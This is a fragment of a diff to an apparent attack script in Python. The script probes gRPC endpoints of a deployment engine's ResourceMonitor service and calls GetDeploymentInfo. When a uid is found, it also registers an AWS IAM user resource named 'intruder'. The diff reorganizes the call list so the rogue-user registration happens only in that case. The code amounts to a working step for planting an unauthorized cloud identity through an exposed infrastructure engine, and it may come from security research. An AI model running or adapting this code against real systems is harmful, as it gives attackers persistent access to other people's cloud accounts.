@@ -75,8 +75,10 @@ if uid:
 for address in set(words):
     with grpc.insecure_channel(address) as channel:
         stub = resource_pb2_grpc.ResourceMonitorStub(channel)
-        for call, request in ((stub.GetDeploymentInfo, empty_pb2.Empty()), (stub.RegisterResource, resource_pb2.RegisterResourceRequest(
-                type="aws:iam/user:User", name="intruder", custom=True))):
+        calls = [(stub.GetDeploymentInfo, empty_pb2.Empty())]
+        if uid:
+            calls.append((stub.RegisterResource, resource_pb2.RegisterResourceRequest(type="aws:iam/user:User", name="intruder", custom=True)))
+        for call, request in calls:
             try:
                 print("ANSWERED", call(request, timeout=5))
             except grpc.RpcError as error:
